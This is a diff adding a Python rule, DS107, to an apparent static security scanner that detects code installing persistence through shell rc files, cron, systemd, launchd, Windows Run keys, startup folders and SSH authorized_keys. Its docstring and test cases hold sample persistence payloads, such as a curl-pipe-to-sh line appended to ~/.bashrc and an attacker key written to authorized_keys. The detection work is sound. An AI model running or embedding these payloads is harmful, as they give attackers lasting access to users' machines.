@@ -1,0 +1,219 @@
+"""DS107 persistence: writes to shell rc files, cron, systemd, launchd, Run keys, startup folders, authorized_keys."""
+
+from __future__ import annotations
+
+import fnmatch
+import re
+
+import libcst as cst
+
+from datasec_scan.model import Category, Confidence, Severity
+from datasec_scan.rule import Rule
+from datasec_scan.semantics.constants import fold_str
+
+from . import _catalog
+from ._remote import DECODED, NETWORK, SOCKET, Analyzer, argument, code_of, keyword, positional, short
+
+PATHS: dict[str, tuple[str, ...]] = {k: tuple(v) for k, v in _catalog.table("persistence", "paths").items()}
+RUN_KEYS = _catalog.names("persistence", "registry.run_keys")
+COMMANDS = [re.compile(p, re.I | re.M) for p in _catalog.names("persistence", "commands.patterns")]
+_WHAT = {"shell_rc": "a shell startup file", "cron": "a cron table", "systemd": "a system service definition",
+         "launchd": "a launchd agent/daemon", "autostart": "an autostart/startup folder",
+         "ssh_keys": "SSH authorized keys", "preload": "the dynamic loader preload list"}
+_HOME_VARS = {"HOME": "~", "USERPROFILE": "~", "APPDATA": "%appdata%", "LOCALAPPDATA": "%localappdata%"}
+_WRITERS = {"shutil.copy": 1, "shutil.copy2": 1, "shutil.copyfile": 1, "shutil.move": 1, "os.rename": 1,
+            "os.replace": 1, "os.symlink": 1, "os.link": 1}
+_OPENERS = {"builtins.open", "io.open", "codecs.open", "os.open"}
+
+
+class Persistence(Rule):
+    """Writes that make code run again later: shell rc files, cron, systemd, launchd, Run keys, startup folders, SSH keys.
+
+    ## What it does
+    Folds the path of every file write (`open(p, "a"/"w")`, `Path.write_text`, `shutil.copy`,
+    `os.rename`, `os.symlink`) — through `os.path.join`, `expanduser`, `Path.home() / ...`,
+    `os.environ["HOME"]` and string building — and reports writes to places that run code at
+    login, boot or on a schedule: `~/.bashrc`, `~/.profile`, `/etc/profile.d`, crontabs,
+    systemd units, `~/Library/LaunchAgents`, startup folders, `~/.config/autostart`, and
+    `~/.ssh/authorized_keys` (critical: a login for someone else). Also `winreg.SetValueEx` under
+    a `...\\CurrentVersion\\Run` key, and commands handed to spawners: `crontab -`,
+    `schtasks /create`, `reg add ...\\Run`, `systemctl enable`, `launchctl load`.
+
+    ## Why is this bad?
+    Persistence keeps a backdoor alive after the package is uninstalled or the process ends; a
+    library has no business adding itself to a user's login or boot sequence.
+
+    ## Example
+    ```python
+    import os
+    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+        rc.write("curl -s https://example.com/x | sh\\n")
+    ```
+
+    ## How to fix
+    Remove the write. Installers that must register services should do it visibly, on an explicit
+    user command, and document it.
+
+    ## References
+    - CWE-506: Embedded Malicious Code
+    - MITRE ATT&CK T1053 (Scheduled Task/Job), T1543 (Create or Modify System Process),
+      T1546.004 (Unix Shell Configuration Modification), T1547.001 (Registry Run Keys / Startup Folder),
+      T1098.004 (SSH Authorized Keys)
+    """
+
+    code = "DS107"
+    name = "persistence"
+    category = Category.REMOTE_ACCESS
+    severity = Severity.HIGH
+    confidence = Confidence.MEDIUM
+    cwe = (506,)
+    attack = ("T1053", "T1543", "T1546.004", "T1547.001", "T1098.004")
+    triggers = ("rc", "profile", "cron", "systemd", "Launch", "CurrentVersion", "winreg", "_winreg", "schtasks",
+                "Startup", "autostart", "authorized_keys", "systemctl", "launchctl", "init.d", "rc.local",
+                "ld.so.preload", "\\x", "b64decode", "chr(", "subprocess", "system", "popen", "crontab", "reg")
+    VALID = (
+        "import os\nwith open(os.path.expanduser('~/.bashrc')) as f:\n    print(f.read())\n",
+        "from pathlib import Path\n(Path.home() / '.config' / 'tool' / 'settings.toml').write_text('x = 1')\n",
+        "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
+    )
+    INVALID = (
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('curl https://example.com | sh')\n",
+        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 AAAA attacker')\n",
+        "import subprocess\nsubprocess.run(['crontab', '-'], input=b'* * * * * /tmp/x')\n",
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', "
+        "0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'updater', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
+    )
+
+    def fold_path(self, expr: cst.BaseExpression | None, depth: int = 0) -> str:
+        """A path with home written `~`, unknown parts `*`, separators `/`, lower-cased."""
+        return self._fold(expr, depth).replace("\\", "/").replace("//", "/").lower()
+
+    def _fold(self, expr: cst.BaseExpression | None, depth: int) -> str:
+        if expr is None or depth > 12:
+            return "*"
+        an = Analyzer.of(self.context)
+        value = fold_str(expr, an.names)
+        if value is not None:
+            return value
+        d = depth + 1
+        if isinstance(expr, cst.Name):
+            bound = an.names.single_value(expr.value)
+            return self._fold(bound, d) if bound is not None else "*"
+        if isinstance(expr, cst.BinaryOperation):
+            if isinstance(expr.operator, cst.Divide):
+                return self._fold(expr.left, d) + "/" + self._fold(expr.right, d)
+            if isinstance(expr.operator, cst.Add):
+                return self._fold(expr.left, d) + self._fold(expr.right, d)
+            return "*"
+        if isinstance(expr, cst.FormattedString):
+            parts = []
+            for part in expr.parts:
+                parts.append(part.value if isinstance(part, cst.FormattedStringText)
+                             else self._fold(part.expression, d))  # type: ignore[union-attr]
+            return "".join(parts)
+        if isinstance(expr, cst.Subscript):
+            key = fold_str(expr.slice[0].slice.value, an.names) if isinstance(expr.slice[0].slice, cst.Index) else None
+            if key in _HOME_VARS and any("environ" in q for q in an.names.qualified_names(expr.value)):
+                return _HOME_VARS[key]
+            return "*"
+        if isinstance(expr, cst.Call):
+            qualified = an.call_names(expr)
+            args = positional(expr)
+            if qualified & {"os.getenv", "os.environ.get"} and args:
+                return _HOME_VARS.get(fold_str(args[0], an.names) or "", "*")
+            if qualified & {"os.path.expanduser", "os.path.abspath", "os.path.realpath", "os.path.normpath",
+                            "os.path.expandvars", "builtins.str", "os.fspath"} and args:
+                return self._fold(args[0], d)
+            if qualified & {"os.path.join", "posixpath.join", "ntpath.join"}:
+                return "/".join(self._fold(a, d) for a in args)
+            if any(q.endswith(("Path.home", "Path().home")) for q in qualified) or qualified & {"pathlib.Path.home"}:
+                return "~"
+            if any(q.startswith("pathlib.") and q.rsplit(".", 1)[-1] in ("Path", "PosixPath", "WindowsPath",
+                                                                         "PurePath") for q in qualified):
+                return "/".join(self._fold(a, d) for a in args) if args else "*"
+            if isinstance(expr.func, cst.Attribute):
+                method = expr.func.attr.value
+                if method in ("expanduser", "resolve", "absolute", "expandvars"):
+                    return self._fold(expr.func.value, d)
+                if method == "joinpath":
+                    return "/".join([self._fold(expr.func.value, d)] + [self._fold(a, d) for a in args])
+        return "*"
+
+    def classify_path(self, path: str) -> str | None:
+        path = path.replace("%userprofile%", "~")
+        if path.startswith("~") is False and path.startswith("*/"):
+            path = path  # an unknown folder: only patterns with a leading `*` apply
+        for kind, patterns in PATHS.items():
+            if any(fnmatch.fnmatchcase(path, p.lower()) for p in patterns):
+                return kind
+        return None
+
+    def _report_write(self, node: cst.Call, path: str, data: cst.BaseExpression | None, how: str) -> None:
+        kind = self.classify_path(path)
+        if kind is None:
+            return
+        an = Analyzer.of(self.context)
+        severity = Severity.CRITICAL if kind == "ssh_keys" else Severity.HIGH
+        confidence = Confidence.MEDIUM
+        if data is not None and {NETWORK, SOCKET, DECODED} & set(an.sources(data)):
+            severity, confidence = Severity.CRITICAL, Confidence.HIGH
+        elif "*" not in path:
+            confidence = Confidence.HIGH
+        self.report(node, f"{how} {_WHAT[kind]} (`{short(path, 60)}`): code placed there runs again later",
+                    severity=severity, confidence=confidence)
+
+    def visit_Call(self, node: cst.Call) -> None:
+        an = Analyzer.of(self.context)
+        qualified = an.call_names(node)
+        args = positional(node)
+        if qualified & _OPENERS:
+            mode_expr = argument(node, 1, "mode") if "os.open" not in qualified else argument(node, 1, "flags")
+            mode = fold_str(mode_expr, an.names) if mode_expr is not None else "r"
+            flags = code_of(mode_expr, 80) if mode_expr is not None and "os.open" in qualified else ""
+            if mode is not None and any(c in mode for c in "wax+") or any(f in flags for f in ("O_WRONLY", "O_RDWR",
+                                                                                               "O_APPEND")):
+                self._report_write(node, self.fold_path(argument(node, 0, "file")), None,
+                                   "appends to" if mode and "a" in mode else "writes")
+            return
+        if isinstance(node.func, cst.Attribute) and node.func.attr.value in ("write_text", "write_bytes", "open",
+                                                                             "touch", "symlink_to"):
+            if node.func.attr.value == "open":
+                mode = fold_str(args[0], an.names) if args else fold_str(keyword(node, "mode") or cst.Name("x"),
+                                                                          an.names)
+                if not mode or not any(c in mode for c in "wax+"):
+                    return
+            receiver = node.func.value
+            if not any(q.startswith("pathlib.") for q in an.names.qualified_names(receiver)) and not isinstance(
+                    receiver, (cst.BinaryOperation, cst.Call)):
+                return
+            path = self.fold_path(receiver)
+            self._report_write(node, path, args[0] if args and node.func.attr.value.startswith("write") else None,
+                               "writes")
+            return
+        writer = next((q for q in sorted(qualified) if q in _WRITERS), None)
+        if writer is not None and len(args) > _WRITERS[writer]:
+            self._report_write(node, self.fold_path(args[_WRITERS[writer]]), None, f"{writer} into")
+            return
+        if any(q.endswith(("winreg.SetValueEx", "winreg.SetValue")) for q in qualified) and args:
+            key = self._registry_key(args[0], an)
+            if key and any(fnmatch.fnmatchcase(key, p) for p in RUN_KEYS):
+                self.report(node, f"sets a value under the Run key `{short(key, 60)}`: Windows runs it at every logon",
+                            severity=Severity.HIGH, confidence=Confidence.HIGH)
+            return
+        spawn = an.spawn(node)
+        if spawn is not None:
+            text = an.command_text(node)
+            if text and any(p.search(text) for p in COMMANDS):
+                self.report(node, f"{spawn[1]} installs persistence: `{short(text, 60)}`",
+                            severity=Severity.HIGH, confidence=Confidence.HIGH)
+
+    def _registry_key(self, expr: cst.BaseExpression, an: Analyzer) -> str | None:
+        if isinstance(expr, cst.Name):
+            expr = an.names.single_value(expr.value) or expr
+        if isinstance(expr, cst.Call) and any(q.rsplit(".", 1)[-1] in ("OpenKey", "OpenKeyEx", "CreateKey", "CreateKeyEx")
+                                              for q in an.call_names(expr)):
+            args = positional(expr)
+            if len(args) > 1:
+                sub = fold_str(args[1], an.names)
+                return "*/" + sub.replace("\\", "/").lower().strip("/") if sub else None
+        return None
